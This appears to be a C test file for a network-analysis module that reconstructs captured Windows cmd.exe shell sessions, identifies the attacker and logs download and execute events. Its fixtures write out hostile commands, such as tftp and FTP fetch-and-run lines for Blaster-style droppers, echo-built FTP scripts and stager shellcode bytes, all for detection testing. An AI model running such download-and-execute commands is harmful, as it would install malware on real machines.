/*
 * The cmd.exe session as a whole: who the attacker is, what the victim's
 * side may never produce, state across lines (set, echo > f, ftp -s:,
 * interactive ftp), line assembly (segments, continuation, 5000-byte and
 * over-long lines), Windows' inet_addr, and the screen.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "shell.h"

#define BANNER "Microsoft Windows XP [Version 5.1.2600]\r\n" \
	"(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
#define PROMPT "\r\nC:\\WINDOWS\\system32>"

static int failures;

#define CHECK(cond, ...) do { \
	if (!(cond)) { \
		fprintf(stderr, "FAIL %s:%d: ", __func__, __LINE__); \
		fprintf(stderr, __VA_ARGS__); \
		fputc('\n', stderr); \
		failures++; \
	} \
} while (0)

struct log {
	char text[16384];
	size_t len;
	unsigned n;
	struct ws_shell_event last;	/* its strings are copied below (valid only in the callback) */
	char file[300], local[300], host[300], user[300], pass[300], server[300];
	char addr[WS_ADDR_STRLEN];
	int attacker;
};

static void on_event(const struct ws_shell_event *ev, void *arg)
{
	struct log *l = arg;

	l->len += (size_t)snprintf(l->text + l->len, sizeof(l->text) - l->len, "%s%s %.*s%s%.*s",
				   l->n ? "; " : "", ws_shell_action_name(ev->action),
				   (int)ev->file_len, ev->file, ev->host_len ? "@" : "",
				   (int)ev->host_len, ev->host);
	l->n++;
	l->last = *ev;
	snprintf(l->file, sizeof(l->file), "%s", ev->file);
	snprintf(l->local, sizeof(l->local), "%s", ev->local);
	snprintf(l->host, sizeof(l->host), "%s", ev->host);
	snprintf(l->user, sizeof(l->user), "%s", ev->user);
	snprintf(l->pass, sizeof(l->pass), "%s", ev->pass);
	ws_shell_server_text(ev, l->server, sizeof(l->server));
	l->last.file = l->last.local = l->last.host = l->last.user = l->last.pass = NULL;
	l->attacker = ev->attacker;
	ws_addr_str(&ev->addr, l->addr, sizeof(l->addr));
}

static struct timeval ts0 = {1061301600, 0};

static void feed(struct ws_shell *s, int side, const char *text, struct log *l)
{
	ws_shell_feed(s, side, (const uint8_t *)text, strlen(text), &ts0, on_event, l);
}

/* A bind shell: the client types, the server prints and echoes. */
static void test_bind_shell_sides(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	CHECK(ws_shell_attacker(s) == WS_SIDE_UNKNOWN, "undecided at first");
	feed(s, WS_SIDE_SERVER, BANNER, &l);
	CHECK(ws_shell_attacker(s) == WS_SIDE_CLIENT, "banner makes the other side the attacker");
	feed(s, WS_SIDE_CLIENT, "tftp -i 81.132.114.254 GET msblast.exe\n", &l);
	/* cmd.exe with a pipe for stdin echoes each command after its prompt */
	feed(s, WS_SIDE_SERVER, "tftp -i 81.132.114.254 GET msblast.exe\r\n", &l);
	feed(s, WS_SIDE_SERVER, "Transfer successful: 6176 bytes\r\n" PROMPT, &l);
	feed(s, WS_SIDE_CLIENT, "start msblast.exe\n", &l);
	feed(s, WS_SIDE_SERVER, "start msblast.exe\r\n" PROMPT, &l);
	CHECK(strcmp(l.text, "get msblast.exe@81.132.114.254; start msblast.exe") == 0,
	      "the echo is not counted again: %s", l.text);
	CHECK(l.attacker == WS_SIDE_CLIENT, "events carry the attacker's side");
	ws_shell_free(s);
}

/* A reverse shell: the victim opened the connection and prints the banner. */
static void test_reverse_shell_sides(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_CLIENT, BANNER, &l);
	feed(s, WS_SIDE_SERVER, "ftp -A 192.168.1.10\n", &l);
	feed(s, WS_SIDE_CLIENT, "ftp -A 192.168.1.10\r\nConnected to 192.168.1.10.\r\nftp> ", &l);
	feed(s, WS_SIDE_SERVER, "get sqlite3.exe\n", &l);
	feed(s, WS_SIDE_CLIENT, "get sqlite3.exe\r\n", &l);
	feed(s, WS_SIDE_SERVER, "bye\n", &l);
	feed(s, WS_SIDE_SERVER, "sqlite3 db \"select 1\"\n", &l);
	CHECK(ws_shell_attacker(s) == WS_SIDE_SERVER, "the server side types");
	CHECK(strcmp(l.text, "ftp-get sqlite3.exe@192.168.1.10; exec sqlite3") == 0, "%s", l.text);
	CHECK(l.attacker == WS_SIDE_SERVER, "attacker is the server side");
	ws_shell_free(s);
}

/* A bot's shell that prints nothing: the first typed line decides. */
static void test_commands_only(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_SERVER, "\n\n", &l);
	feed(s, WS_SIDE_CLIENT,
	     "echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &echo quit >> o "
	     "&ftp -n -s:o &del /F /Q o &ssms.exe\n", &l);
	CHECK(strcmp(l.text, "ftp-get ssms.exe@0.0.0.0; exec ssms.exe") == 0, "%s", l.text);
	CHECK(l.n == 2 && l.attacker == WS_SIDE_CLIENT, "client");
	CHECK(ws_shell_attacker(s) == WS_SIDE_CLIENT, "decided by the download");
	CHECK(l.last.port == 0, "exec has no port");
	ws_shell_free(s);
}

/* Only the victim's direction: nothing it prints is run. */
static void test_victim_only(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	struct ws_shell_stats st;

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_SERVER, "tftp -i 1.2.3.4 GET x.exe\r\n", &l);
	feed(s, WS_SIDE_SERVER, "x.exe\r\n" PROMPT, &l);
	CHECK(l.n == 0, "no event from the victim: %s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.victim_hint == WS_SHELL_BANNER, "victim shown by its banner");
	ws_shell_free(s);

	/* picked up mid-stream: the output's last prompt shows the victim */
	s = ws_shell_new();
	memset(&l, 0, sizeof(l));
	feed(s, WS_SIDE_SERVER, " Volume in drive C has no label.\r\n\r\nC:\\Documents and Settings\\x>",
	     &l);
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET m.exe\n", &l);
	CHECK(strcmp(l.text, "get m.exe@1.2.3.4") == 0, "%s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.victim_hint == WS_SHELL_PROMPT, "victim shown by its prompt");
	ws_shell_free(s);
}

/* Only the attacker's direction: bare exec lines wait for a download. */
static void test_attacker_only(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	struct ws_shell_stats st;

	feed(s, WS_SIDE_CLIENT, "svchost.exe   1084 Console\n", &l);	/* could be tasklist output */
	CHECK(l.n == 0, "an exec alone does not decide: %s", l.text);
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET a.exe & a.exe\n", &l);
	CHECK(strcmp(l.text, "get a.exe@1.2.3.4; exec a.exe") == 0, "%s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.unattributed == 1, "the undecided exec is counted: %llu",
	      (unsigned long long)st.unattributed);
	ws_shell_free(s);
}

/* Binary from an undecided side (a stager, Meterpreter) is never run. */
static void test_binary_undecided(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	static const uint8_t junk[] = "\xfc\xe8\x89\x00\x00\x00 tftp -i 1.2.3.4 GET x.exe\n";

	ws_shell_feed(s, WS_SIDE_SERVER, junk, sizeof(junk) - 1, &ts0, on_event, &l);
	CHECK(l.n == 0, "binary line not run: %s", l.text);
	ws_shell_free(s);
}

/* A reverse shell after a stager: the stage bytes are no part of the first line. */
static void test_stager_then_banner(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	static const uint8_t len4[] = {0xf0, 0x00, 0x00, 0x00};
	static const uint8_t stage[] = "\xfc\xe8\x89\x00\x00\x00\x60\x89\xe5\x31\xd2\x64\x8b\x52\x30"
				      "\x0a\x8b\x52\x0c\x68\x63\x6d\x64\x00\x89\xe3\x57";

	ws_shell_feed(s, WS_SIDE_SERVER, len4, sizeof(len4), &ts0, on_event, &l);
	ws_shell_feed(s, WS_SIDE_SERVER, stage, sizeof(stage) - 1, &ts0, on_event, &l);
	feed(s, WS_SIDE_CLIENT, BANNER, &l);
	feed(s, WS_SIDE_SERVER, "tftp -i 1.2.3.4 GET stage2.exe\n", &l);
	CHECK(strcmp(l.text, "get stage2.exe@1.2.3.4") == 0, "%s", l.text);
	CHECK(l.attacker == WS_SIDE_SERVER, "the server typed");
	ws_shell_free(s);
}

/*
 * Holes (capture loss the victim ACKed): the line they cut is dropped up to
 * its end, never joined across; a hole inside an undecided side's binary
 * stage cuts no typed line (the stager reads the stage whole).
 */
static void test_gaps(void)
{
	struct ws_shell *s = ws_shell_new();
	struct ws_shell_stats st;
	struct log l = {.n = 0};
	static const uint8_t stage[] = {0xf0, 0x00, 0x00, 0x00, 0xfc, 0xe8, 0x89, 0x00};

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET ", &l);
	ws_shell_gap(s, WS_SIDE_CLIENT);
	feed(s, WS_SIDE_CLIENT, "x.exe\ntftp -i 1.2.3.4 GET ok.exe\n", &l);
	ws_shell_gap(s, WS_SIDE_CLIENT);	/* at a line start: the next line is cut */
	feed(s, WS_SIDE_CLIENT, "xe\ntftp -i 1.2.3.4 GET ok2.exe\n", &l);
	ws_shell_gap(s, WS_SIDE_SERVER);	/* the victim's output: nothing to cut */
	CHECK(strcmp(l.text, "get ok.exe@1.2.3.4; get ok2.exe@1.2.3.4") == 0, "%s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.holed == 1, "one line with bytes cut (%llu)", (unsigned long long)st.holed);
	ws_shell_free(s);

	s = ws_shell_new();
	l = (struct log){.n = 0};
	ws_shell_feed(s, WS_SIDE_SERVER, stage, sizeof(stage), &ts0, on_event, &l);
	ws_shell_gap(s, WS_SIDE_SERVER);	/* the stage's tail was not kept */
	feed(s, WS_SIDE_CLIENT, BANNER, &l);
	feed(s, WS_SIDE_SERVER, "tftp -i 1.2.3.4 GET stage3.exe\n", &l);
	CHECK(strcmp(l.text, "get stage3.exe@1.2.3.4") == 0, "after a stage's hole: %s", l.text);
	ws_shell_free(s);
}

/* A bot typing before the banner arrives: its unfinished line is kept. */
static void test_typing_before_banner(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET early.exe\nstart ear", &l);
	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "ly.exe\n", &l);
	CHECK(strcmp(l.text, "get early.exe@1.2.3.4; start early.exe") == 0, "%s", l.text);
	ws_shell_free(s);
}

/* Lines arrive in any segmentation; set and %var% across lines. */
static void test_segments_and_env(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	const char *text = "set t=tftp\r\nset h=1.2.3.4\r\n%t% -i %h% GET seg.exe\r\n";

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	for (size_t i = 0; text[i]; i++)
		ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)text + i, 1, &ts0, on_event, &l);
	CHECK(strcmp(l.text, "get seg.exe@1.2.3.4") == 0, "%s", l.text);
	CHECK(strcmp(l.addr, "1.2.3.4") == 0 && l.last.port == 69 &&
	      l.last.proto == WS_SHELL_PROTO_TFTP, "tftp fields");
	ws_shell_free(s);
}

/* An FTP script built with echo, run with -s:, and an interactive ftp. */
static void test_ftp_fields(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "echo open 010.0.0.1 2121>s\n", &l);
	feed(s, WS_SIDE_CLIENT, "echo user bob pw>>s\n", &l);
	feed(s, WS_SIDE_CLIENT, "echo get a.exe c:\\b.exe>>s\n", &l);
	feed(s, WS_SIDE_CLIENT, "echo bye>>s\n", &l);
	CHECK(l.n == 0, "writing the script is silent");
	feed(s, WS_SIDE_CLIENT, "ftp -n -s:s\n", &l);
	CHECK(l.n == 1 && l.last.action == WS_SHELL_FTP_GET, "one ftp-get");
	CHECK(strcmp(l.host, "010.0.0.1") == 0 && strcmp(l.addr, "8.0.0.1") == 0,
	      "host as typed, address as inet_addr reads it: %s %s", l.host, l.addr);
	CHECK(l.last.port == 2121 && l.last.proto == WS_SHELL_PROTO_FTP, "port and proto");
	CHECK(strcmp(l.server, "010.0.0.1:2121") == 0, "Server column: %s", l.server);
	CHECK(strcmp(l.user, "bob") == 0 && strcmp(l.pass, "pw") == 0, "user/pass");
	CHECK(strcmp(l.file, "a.exe") == 0 && strcmp(l.local, "c:\\b.exe") == 0, "names");
	feed(s, WS_SIDE_CLIENT, "b\n", &l);
	CHECK(l.n == 2 && l.last.action == WS_SHELL_EXEC, "the local name runs");
	/* the script ran once: running it again gives the event again, the echo did not grow it */
	feed(s, WS_SIDE_CLIENT, "ftp -n -s:s\n", &l);
	CHECK(l.n == 3, "once per run");

	/* interactive, a name for a host: no address */
	feed(s, WS_SIDE_CLIENT, "ftp -A files.example.net\n", &l);
	feed(s, WS_SIDE_CLIENT, "get n.exe\n", &l);
	CHECK(l.n == 4 && strcmp(l.addr, "-") == 0 && strcmp(l.user, "anonymous") == 0,
	      "a name is never resolved: %s", l.addr);
	CHECK(strcmp(l.server, "files.example.net") == 0, "port 21 is not shown: %s", l.server);
	{
		struct ws_shell_event ev = {.action = WS_SHELL_FTP_GET, .host = "1.2.3.4",
					    .host_len = 7, .port = 2121};
		char small[6];

		CHECK(ws_shell_server_text(&ev, small, sizeof(small)) == 12 &&
		      strcmp(small, "1.2.3") == 0, "cut to the buffer, full length returned: %s", small);
		ev.action = WS_SHELL_EXEC;
		CHECK(ws_shell_server_text(&ev, small, sizeof(small)) == 0 && small[0] == '\0',
		      "no server for exec");
	}
	feed(s, WS_SIDE_CLIENT, "quit\n", &l);
	feed(s, WS_SIDE_CLIENT, "get q.exe\n", &l);
	CHECK(l.n == 4, "after quit, get is cmd's: %s", l.text);
	ws_shell_free(s);
}

/* ^ at the end of a line, across segments. */
static void test_continuation(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "tftp -i ^\r\n", &l);
	feed(s, WS_SIDE_CLIENT, "1.2.3.4 GET ^\n", &l);
	CHECK(l.n == 0, "still continuing");
	feed(s, WS_SIDE_CLIENT, "cont.exe\n", &l);
	CHECK(strcmp(l.text, "get cont.exe@1.2.3.4") == 0, "%s", l.text);
	/* end of stream after a ^: the line runs as it is */
	feed(s, WS_SIDE_CLIENT, "start cont.exe ^", &l);
	ws_shell_end(s, &ts0, on_event, &l);
	CHECK(l.n == 2 && l.last.action == WS_SHELL_START, "%s", l.text);
	ws_shell_free(s);
}

/* An unterminated last line runs at the end of the stream. */
static void test_end_of_stream(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET e.exe\n", &l);
	feed(s, WS_SIDE_CLIENT, "e.exe", &l);
	CHECK(l.n == 1, "not yet");
	ws_shell_end(s, &ts0, on_event, &l);
	CHECK(l.n == 2 && l.last.action == WS_SHELL_EXEC, "at the end");
	ws_shell_free(s);
}

/* 1100 spaces, a 5000-byte line, and lines over 8191 bytes [KB830473]. */
static void test_long_lines(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	struct ws_shell_stats st;
	char *buf = malloc(40000);
	size_t n;

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	memset(buf, ' ', 1100);
	strcpy(buf + 1100, "tftp -i 1.2.3.4 GET sp.exe\n");
	feed(s, WS_SIDE_CLIENT, buf, &l);
	CHECK(strcmp(l.text, "get sp.exe@1.2.3.4") == 0, "1100 spaces do not hide it: %s", l.text);

	/* a 5000-byte line: echo padding, then the command */
	{
		const char *tail = " & tftp -i 1.2.3.4 GET five.exe";

		n = (size_t)sprintf(buf, "echo ");
		memset(buf + n, 'x', 5000 - n - strlen(tail));
		n = 5000 - strlen(tail);
		n += (size_t)sprintf(buf + n, "%s", tail);
	}
	CHECK(n == 5000, "line is %zu bytes", n);
	strcpy(buf + n, "\n");
	l.len = 0, l.n = 0;
	for (size_t i = 0; i < n + 1; i += 1400)	/* in TCP-sized segments */
		ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)buf + i,
			      n + 1 - i < 1400 ? n + 1 - i : 1400, &ts0, on_event, &l);
	CHECK(strcmp(l.text, "get five.exe@1.2.3.4") == 0, "5000-byte line: %s", l.text);

	/* over 8191: the first 8191 bytes run, the rest is dropped and counted */
	memset(buf, ' ', 8000);
	n = 8000 + (size_t)sprintf(buf + 8000, "tftp -i 1.2.3.4 GET trunc.exe");
	memset(buf + n, ' ', 30000);
	strcpy(buf + n + 30000, "start never.exe\n");
	l.len = 0, l.n = 0;
	feed(s, WS_SIDE_CLIENT, buf, &l);
	CHECK(strcmp(l.text, "get trunc.exe@1.2.3.4") == 0, "truncated line: %s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.truncated == 1, "counted: %llu", (unsigned long long)st.truncated);
	/* the command cut at 8191 bytes: tftp's last argument is what fits */
	memset(buf, ' ', 8191 - 27);
	strcpy(buf + 8191 - 27, "tftp -i 1.2.3.4 GET cut.exeXYZ\n");
	l.len = 0, l.n = 0;
	feed(s, WS_SIDE_CLIENT, buf, &l);
	CHECK(strcmp(l.text, "get cut.exe@1.2.3.4") == 0, "cut: %s", l.text);
	/* the next line is whole again */
	l.len = 0, l.n = 0;
	feed(s, WS_SIDE_CLIENT, "start trunc.exe\n", &l);
	CHECK(strcmp(l.text, "start trunc.exe") == 0, "%s", l.text);
	ws_shell_get_stats(s, &st);
	CHECK(st.heap < 4096, "long-line buffers are given back: heap %zu", st.heap);
	free(buf);
	ws_shell_free(s);
}

/* Per-line limits: a for loop cannot make thousands of events. */
static void test_line_limits(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	struct ws_shell_stats st;

	feed(s, WS_SIDE_SERVER, BANNER, &l);
	feed(s, WS_SIDE_CLIENT, "for %a in (1 2 3 4 5 6 7 8) do for %b in (1 2 3 4 5 6 7 8) do "
				"for %c in (1 2) do tftp -i 1.2.3.4 GET %a%b%c.exe\n", &l);
	ws_shell_get_stats(s, &st);
	CHECK(l.n > 0 && l.n <= WS_SHELL_EVENTS_PER_LINE, "events capped: %u", l.n);
	CHECK(st.over_budget > 0, "the rest is counted");
	l.n = 0;
	feed(s, WS_SIDE_CLIENT, "echo 1&echo 2&echo 3&echo 4&echo 5&echo 6&echo 7&echo 8&echo 9&"
				"tftp -i 1.2.3.4 GET t1.exe&tftp -i 1.2.3.4 GET t2.exe\n", &l);
	CHECK(l.n == 2, "a few commands are far from the limits: %u", l.n);
	l.n = 0;
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET next.exe\n", &l);
	CHECK(l.n == 1, "the next line has its own limits");
	ws_shell_free(s);
}

/* Memory: an idle session, a typical dropper session, and the bounds. */
static void test_memory(void)
{
	struct ws_shell *s = ws_shell_new();
	struct log l = {.n = 0};
	struct ws_shell_stats st;
	char line[128];

	ws_shell_get_stats(s, &st);
	printf("memory: new session %zu bytes\n", st.heap);
	CHECK(st.heap < 512, "a new session is small: %zu", st.heap);
	feed(s, WS_SIDE_SERVER, BANNER, &l);
	ws_shell_get_stats(s, &st);
	printf("memory: after the victim's banner %zu bytes\n", st.heap);
	CHECK(st.heap < 512, "the victim's bytes are not kept: %zu", st.heap);
	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET msblast.exe\nstart msblast.exe\n", &l);
	ws_shell_get_stats(s, &st);
	printf("memory: after a Blaster session %zu bytes\n", st.heap);
	CHECK(st.heap < 1024, "a Blaster session: %zu", st.heap);
	/* fill every bound: variables, files, fetched names */
	for (int i = 0; i < 200; i++) {
		snprintf(line, sizeof(line), "set v%d=%0100d\n", i, i);
		feed(s, WS_SIDE_CLIENT, line, &l);
		snprintf(line, sizeof(line), "echo %0100d >> f%d\n", i, i % 40);
		for (int k = 0; k < 3; k++)
			feed(s, WS_SIDE_CLIENT, line, &l);
		snprintf(line, sizeof(line), "tftp -i 1.2.3.4 GET n%d.exe\n", i);
		feed(s, WS_SIDE_CLIENT, line, &l);
	}
	for (int i = 0; i < 100; i++)
		feed(s, WS_SIDE_CLIENT, "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f0\n", &l);
	for (int i = 0; i < 40; i++) {	/* fetched names of 250 characters */
		char big[400];

		snprintf(big, sizeof(big), "tftp -i 1.2.3.4 GET %0250d\n", i);
		feed(s, WS_SIDE_CLIENT, big, &l);
	}
	feed(s, WS_SIDE_CLIENT, "ftp -A 1.2.3.4\n", &l);	/* an interactive ftp open */
	{
		char *partial = malloc(WS_SHELL_LINE_MAX + 100);	/* and a full line pending */

		memset(partial, 'p', WS_SHELL_LINE_MAX + 99);
		partial[WS_SHELL_LINE_MAX + 99] = '\0';
		feed(s, WS_SIDE_CLIENT, partial, &l);
		free(partial);
	}
	ws_shell_get_stats(s, &st);
	printf("memory: with every bound reached %zu bytes (state_full %llu)\n", st.heap,
	       (unsigned long long)st.state_full);
	CHECK(st.heap < 48 * 1024, "bounded: %zu", st.heap);
	CHECK(st.state_full > 0, "bounds were hit and counted");
	ws_shell_free(s);
}

/* Windows inet_addr() [Microsoft, "inet_addr function (winsock2.h)"]. */
static void test_inet_addr(void)
{
	static const struct {
		const char *in, *out;
	} t[] = {
		{"81.132.114.254", "81.132.114.254"}, {"010.0.0.1", "8.0.0.1"},
		{"0x51847226", "81.132.114.38"}, {"1.2.3", "1.2.0.3"}, {"1.2", "1.0.0.2"},
		{"16909060", "1.2.3.4"}, {"0xff.0x00.0.01", "255.0.0.1"}, {"1.65535", "1.0.255.255"},
		{"1.2.65535", "1.2.255.255"}, {"4294967295", "255.255.255.255"}, {"0", "0.0.0.0"},
		{"0X7f.1", "127.0.0.1"}, {"017700000001", "127.0.0.1"},
		{"1.2.3.256", NULL}, {"1.2.3.4.5", NULL}, {"08.1.1.1", NULL}, {"0x", NULL},
		{"1..2", NULL}, {"1.2.3.", NULL}, {"", NULL}, {"example.com", NULL},
		{"1.2.65536", NULL}, {"1.16777216", NULL}, {"4294967296", NULL}, {"256.1", NULL},
		{"1.2.3.4 ", NULL}, {"-1", NULL}, {"fe80::1", NULL}, {"0x1g", NULL},
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct ws_addr a;
		char buf[WS_ADDR_STRLEN];
		bool ok = ws_inet_addr(t[i].in, strlen(t[i].in), &a);

		if (t[i].out)
			CHECK(ok && strcmp(ws_addr_str(&a, buf, sizeof(buf)), t[i].out) == 0,
			      "inet_addr(\"%s\") = %s, want %s", t[i].in, ok ? buf : "none", t[i].out);
		else
			CHECK(!ok, "inet_addr(\"%s\") must fail", t[i].in);
	}
}

static void test_screen(void)
{
	static const struct {
		const char *data;
		size_t len;
		enum ws_shell_hint want;
	} t[] = {
		{BANNER, 0, WS_SHELL_BANNER},
		{"Microsoft Windows 2000 [Version 5.00.2195]\r\n", 0, WS_SHELL_BANNER},
		{"Microsoft Windows [Version 6.1.7601]\r\n", 0, WS_SHELL_BANNER},
		{"Microsoft(R) Windows NT(TM)\r\n(C) Copyright 1985-1996 Microsoft Corp.\r\n", 0,
		 WS_SHELL_BANNER},
		{"\xfc\xe8\x89\x00\x00\x00\x60\x89\xe5\x31\xd2Microsoft Windows XP [Version 5.1.2600]", 11 + 39, WS_SHELL_BANNER},
		{"C:\\WINDOWS\\system32>", 0, WS_SHELL_PROMPT},
		{"output\r\nC:\\Documents and Settings\\Administrator\\Desktop>", 0, WS_SHELL_PROMPT},
		{"C:\\>", 0, WS_SHELL_PROMPT},
		{"tftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
		{"echo open 1.2.3.4 > o&echo get a.exe >> o\n", 0, WS_SHELL_COMMAND},
		{"ftp -n -s:o\n", 0, WS_SHELL_COMMAND},
		{"ftp 1.2.3.4\n", 0, WS_SHELL_COMMAND},
		{"cmd /c tftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
		{"\n\nt^f^t^p -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
		{"tftp -i 1.2.3.4 GET x.exe", 0, WS_SHELL_NONE},	/* no LF yet */
		{"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n", 0, WS_SHELL_NONE},
		{"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>", 0, WS_SHELL_NONE},
		{"SSH-2.0-OpenSSH_9.2p1\r\n", 0, WS_SHELL_NONE},
		{"POST /cgi HTTP/1.0\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		/* every HTTP start is recognised, whatever its first letter (is_http) */
		{"HEAD / HTTP/1.0\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		{"PUT /f HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		{"OPTIONS * HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		{"CONNECT a:443 HTTP/1.1\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		{"HTTP/1.0 200 OK\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
		/* a first letter shared with HTTP is not HTTP */
		{"GETMAC\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
		{"CD \\\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_COMMAND},
		{"220 mail.example.com ESMTP\r\n", 0, WS_SHELL_NONE},
		{"echo hello\n", 0, WS_SHELL_NONE},
		{"x C:\\WINDOWS>", 0, WS_SHELL_NONE},	/* not at a line start */
		{"Microsoft Word\r\n", 0, WS_SHELL_NONE},
		{"", 0, WS_SHELL_NONE},
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		size_t len = t[i].len ? t[i].len : strlen(t[i].data);
		enum ws_shell_hint h = ws_shell_screen((const uint8_t *)t[i].data, len);

		CHECK(h == t[i].want, "screen case %zu: %s, want %s", i, ws_shell_hint_name(h),
		      ws_shell_hint_name(t[i].want));
	}
	/* a banner after WS_SHELL_SCREEN_BYTES of stager is not looked for */
	{
		char *big = malloc(WS_SHELL_SCREEN_BYTES + 100);

		memset(big, 0x90, WS_SHELL_SCREEN_BYTES + 100);
		memcpy(big + WS_SHELL_SCREEN_BYTES - 20, "Microsoft Windows XP [Version 5.1]", 34);
		CHECK(ws_shell_screen((uint8_t *)big, WS_SHELL_SCREEN_BYTES + 100) == WS_SHELL_NONE,
		      "window bounded");
		memcpy(big + 10, "Microsoft Windows XP [Version 5.1]", 34);
		CHECK(ws_shell_screen((uint8_t *)big, WS_SHELL_SCREEN_BYTES + 100) == WS_SHELL_BANNER,
		      "within the window");
		free(big);
	}
}

/* A Metasploit stager's length prefix (block_recv.asm: a little-endian DWORD, then the stage). */
static void test_stage_len(void)
{
	static const struct {
		const char *data;
		size_t len, want;
	} t[] = {
		{"\xb8\x0b\x00\x00\xfc\xe8", 6, 3000},		/* pcaps/shell-stager-long */
		{"\xf0\x00\x00\x00", 4, 240},
		{"\x00\x10\x0c\x00", 4, 0xc1000},			/* a Meterpreter-sized stage */
		{"\xff\xff\xff\x00", 4, WS_SHELL_STAGE_MAX},
		{"\x00\x00\x00\x01", 4, 0},				/* over 16 MiB */
		{"\x00\x00\x00\x00", 4, 0},				/* nothing to read */
		{"\x16\x03\x01\x02\x00\x01", 6, 0},		/* a TLS ClientHello of 512 */
		{"\x00\x00\x00\x75\xfeSMB", 8, 0},			/* NetBIOS session + SMB2 */
		{"GET / HTTP/1.1\r\n", 16, 0},
		{"\xb8\x0b\x00", 3, 0},				/* too short to tell */
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		size_t got = ws_shell_stage_len((const uint8_t *)t[i].data, t[i].len);

		CHECK(got == t[i].want, "stage length case %zu: %zu, want %zu", i, got, t[i].want);
	}
}

int main(void)
{
	test_bind_shell_sides();
	test_reverse_shell_sides();
	test_commands_only();
	test_victim_only();
	test_attacker_only();
	test_binary_undecided();
	test_stager_then_banner();
	test_gaps();
	test_typing_before_banner();
	test_segments_and_env();
	test_ftp_fields();
	test_continuation();
	test_end_of_stream();
	test_long_lines();
	test_line_limits();
	test_memory();
	test_inet_addr();
	test_screen();
	test_stage_len();
	printf("%d failure(s)\n", failures);
	return failures != 0;
}
